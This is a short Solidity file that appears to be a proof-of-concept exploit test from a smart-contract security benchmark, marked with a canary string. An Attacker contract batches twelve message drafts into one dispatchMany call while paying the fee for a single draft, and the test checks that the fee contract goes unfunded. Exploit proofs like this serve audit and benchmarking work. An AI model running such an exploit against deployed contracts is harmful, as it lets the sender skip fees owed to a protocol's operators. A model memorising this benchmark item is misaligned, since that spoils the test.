// SPDX-License-Identifier: LGPL-3.0-only
pragma solidity 0.8.30;

// assay-canary-9c41e7d3-2b6f-4a58-8e10-d37f5a0c64b9
import "../Base.sol";

contract Attacker is Agent {
    constructor(Deployment.Station memory home_, Deployment.Station memory away_, address[] memory a, address[] memory b)
        payable
        Agent(home_, away_, a, b)
    {}

    function run() external {
        Messages.Draft[] memory drafts = new Messages.Draft[](12);
        for (uint256 i = 0; i < 12; i++) {
            drafts[i] = Messages.Draft(22, address(this), 5_000_000, 2 hours, "");
        }
        uint256 fee = home.outbox.feeFor(drafts[0]);
        try home.outbox.dispatchMany{value: fee}(drafts) {} catch {}
    }
}

contract Proof is Base {
    Attacker private other;

    function _start() internal override {
        other = new Attacker{value: 1 ether}(home, away, watchers, returning);
    }

    function exploit() public {
        other.run();
    }

    function test_Exploit() public {
        exploit();
        require(!funded(), "the fees are there");
    }

    function target() public view override returns (address) {
        return address(home.fees);
    }

    function attacker() public view returns (address) {
        return address(other);
    }
}
